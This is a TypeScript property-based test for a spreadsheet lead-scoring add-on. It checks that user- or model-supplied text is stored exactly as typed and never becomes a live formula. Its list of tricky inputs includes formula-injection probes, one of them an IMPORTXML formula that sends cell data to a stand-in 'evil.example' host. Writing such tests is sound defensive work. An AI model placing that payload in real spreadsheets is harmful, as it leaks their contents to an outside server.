// Property: any text a user or a model gives (names, rule values, lists, bands, grades, outcome values) is
// stored by the add-on exactly as that text, on the model sheet and in the history, under the strict
// emulation's typed-input conversion (`=…` a formula, `007` a number, `3/4` a date, a leading `'` dropped).
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { Model } from '../../src/core/model';
import { starterModel } from '../../src/core/starterModel';
import { parseModel } from '../../src/core/validate';
import type { SaveResult, SidebarState } from '../../src/shared/sidebarApi';
import { addonWithStarter, sheetValues } from '../support/addon';

const TRICKY = [
  '=1+1',
  '=IMPORTXML("http://evil.example/?q="&A2,"//a")',
  '+1',
  '-1',
  '+A1',
  '-3/4',
  '@here',
  "'Tis",
  "''",
  '50%',
  '1e3',
  '2026-03-04',
  '3/4',
  '1-10',
  '007',
  'TRUE',
  'false',
  '$12,000',
  '#N/A',
  '12:30',
];

/** Text as people type it: the tricky cases, random text, and the two glued together. */
const text = fc
  .oneof(
    fc.constantFrom(...TRICKY),
    fc.string({ minLength: 1, maxLength: 12 }),
    fc.tuple(fc.constantFrom(...TRICKY), fc.string({ maxLength: 6 })).map(([a, b]) => a + b),
  )
  .map((s) => s.trim())
  .filter((s) => s.length > 0);

// Whether a plain-text (`@`) cell keeps a written leading apostrophe is not documented: the add-on must
// store the exact text under either answer (EmulatorOptions.plainTextIsLiteral models the other one).
describe.each([
  ['drops a leading apostrophe (the default reading)', false],
  ['stores a string exactly, apostrophe included', true],
])(
  'text written by the add-on reads back identical when a plain-text cell %s',
  (_reading, plainTextIsLiteral) => {
    it('through the model sheet and the history (fast-check)', () => {
      const emulator = addonWithStarter({ plainTextIsLiteral });
      const base = starterModel();
      fc.assert(
        fc.property(
          fc.record({
            name: text,
            rule: text,
            equals: text,
            list: fc.array(text, { minLength: 1, maxLength: 3 }),
            band: text,
            grade: text,
            outcome: text,
            // A note is kept exactly, spaces and line breaks included.
            note: fc.oneof(
              text,
              fc.string({ maxLength: 40 }),
              fc.constantFrom('', '  two spaces  ', 'line\nbreak', '=SUM(1)', "'quoted"),
            ),
          }),
          (t) => {
            const [first, ...rest] = base.rules;
            if (!first) throw new Error('the starter has rules');
            const candidate: Model = {
              ...base,
              name: t.name,
              rules: [
                { ...first, name: t.rule, operator: 'equals', value: t.equals },
                { ...first, name: `${t.rule} (list)`, operator: 'one of', value: t.list },
                ...rest,
              ],
              bands: base.bands.map((b, i) => (i === 1 ? { ...b, name: t.band } : b)),
              grades: (base.grades ?? []).map((g, i) => (i === 0 ? { ...g, name: t.grade } : g)),
              outcome: { column: 'Converted', positive: [t.outcome], negative: ['no'] },
            };
            const parsed = parseModel(candidate);
            fc.pre(parsed.ok);
            if (!parsed.ok) return;
            const before = emulator.run('getSidebarState', [], 'FULL') as SidebarState;
            const saved = emulator.run(
              'saveModel',
              [candidate, before.revision, t.note],
              'FULL',
            ) as SaveResult;
            expect(saved.ok).toBe(true);
            const after = emulator.run('getSidebarState', [], 'FULL') as SidebarState;
            expect(after.modelProblems).toEqual([]);
            expect(after.model).toEqual(parsed.model);
            const history = sheetValues(emulator, 'Lead Scoring History');
            const newest = history.slice(1).reduce((a, b) => (Number(b[0]) > Number(a[0]) ? b : a));
            expect(JSON.parse(String(newest[5]))).toEqual(parsed.model);
            expect(newest[3]).toBe(saved.ok ? saved.version.summary : '');
            expect(newest[4]).toBe(t.note);
            expect(after.versions[0]?.note).toBe(t.note);
            const formulas = emulator.spreadsheet
              .getSheetByName('Lead Scoring Model')
              ?.getDataRange()
              .getFormulas()
              .flat();
            expect(formulas?.every((f) => f === '')).toBe(true);
          },
        ),
        { numRuns: 60 },
      );
    }, 60_000);
  },
);
